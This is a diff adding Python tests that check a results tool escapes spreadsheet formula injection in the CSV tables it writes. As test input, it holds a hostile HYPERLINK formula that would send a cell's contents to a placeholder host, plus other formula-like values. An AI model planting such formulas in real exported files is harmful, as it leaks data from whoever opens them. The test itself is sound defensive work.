@@ -324,6 +324,32 @@ class TestOutputs:
         back = pd.read_csv(path, keep_default_na=False)
         pd.testing.assert_frame_equal(demo_report.distribution, back, check_dtype=False)
 
+    def test_every_table_is_written_by_the_one_csv_writer(self, tmp_path: Path) -> None:
+        """Audit 16 #4: an id typed as a formula is written with a leading ``'`` in every
+        table, with a BOM and CRLF line ends, byte for byte what write_table_csv writes."""
+        from evalkit.io.results import write_table_csv
+
+        base = rules.get("vn.nd335-2025")
+        evil, unit = '=HYPERLINK("http://x.example/?a="&A1,"Xem")', "@SUM(1+1)"
+        frame = _people(base, {evil: 21, "-S2": 20.5, "S3": 10}).assign(unit_id=unit)
+        frame["full_name"] = ["+Nguyễn Văn A", "Trần B", "Lê C"]
+        report = compare_rule_sets(_variant(base, "test.htxs-90", 90),
+                                   _variant(base, "test.htxs-92", 92), frame,
+                                   pd.DataFrame({"unit_id": [unit]}))  # fmt: skip
+        for table in ("changes", "distribution", "quota"):
+            path = report.to_csv(tmp_path / f"{table}.csv", table)
+            raw = path.read_bytes()
+            assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
+            assert raw == write_table_csv(report.table(table), tmp_path / "ref.csv").read_bytes()
+            text = raw.decode("utf-8-sig")
+            assert f"'{unit}" in text or not len(report.table(table))
+            cells = [c for line in text.splitlines() for c in line.split(",")]
+            live = [c for c in cells if c.lstrip('"')[:1] in ("=", "+", "-", "@")
+                    and pd.to_numeric(pd.Series([c]), errors="coerce").isna().all()]
+            assert live == [], table  # a number stays a number (-6)
+        assert len(report.changes) and f"'{evil}".replace('"', '""') in \
+            (tmp_path / "changes.csv").read_text(encoding="utf-8-sig")
+
     def test_the_pdf_is_one_page_with_both_ids_and_a_changed_name(
         self, demo_report: ImpactReport, tmp_path: Path
     ) -> None:
@@ -423,6 +449,8 @@ class TestCommandLine:
         assert dist["old"].sum() == dist["new"].sum() == 25
         assert len(pd.read_csv(tmp_path / "diff.quota.csv")) == 5
         assert len(pd.read_csv(csv)) == 0
+        for written in (csv, tmp_path / "diff.distribution.csv", tmp_path / "diff.quota.csv"):
+            assert written.read_bytes().startswith(b"\xef\xbb\xbf")  # the one CSV writer's BOM
 
     def test_rules_diff_takes_a_toml_file_and_prints_json(self, tmp_path: Path) -> None:
         """NEW may be a TOML file; --json prints the whole report."""
